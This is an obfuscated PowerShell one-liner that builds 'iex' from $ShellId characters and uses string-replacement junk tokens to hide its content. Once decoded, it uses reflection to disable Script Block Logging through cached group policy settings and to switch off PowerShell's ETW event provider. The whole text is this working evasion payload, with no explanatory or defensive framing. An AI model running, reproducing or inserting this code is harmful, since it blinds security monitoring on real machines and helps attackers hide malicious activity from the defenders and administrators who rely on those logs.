& ($ShellId[1]+$ShellId[13]+'x') ('iex ((''# setup 0359 v3
$settings = [Ref].Assembly.GetType(''''System.Management.Automation.Utils'''').GetField(''''cachedGroupPolicySettings'''',''''NonPublic,Static'''').GetValue($null)
$settings[''''HKEY_LOCAL_MACHINE\SoftwareJKZ34\Policies\Microsoft\vq~1indows\PowerShell\ScriptBlockLogging''''][''''EnableScriptBlockLogging''''] = 0
[Reflection.Assembly]::Loadvq~1ithPartialName(''''System.Core'''').GeJKZ34tType(''''System.Diagnostics.Eventing.EventProvider'''').GetField(''''m_enabled'''',''''NonPublic,Instance'''').SetValue([Ref].Assembly.GetType(''''System.Management.Automation.Tracing.PSEtwLogProvider'''').GetField(''''etwProvider'''',''''NonPublic,Static'''').GetValue($null),0)
'' -replace ''JKZ34'','''').Replace(''vq~1'',''W''))')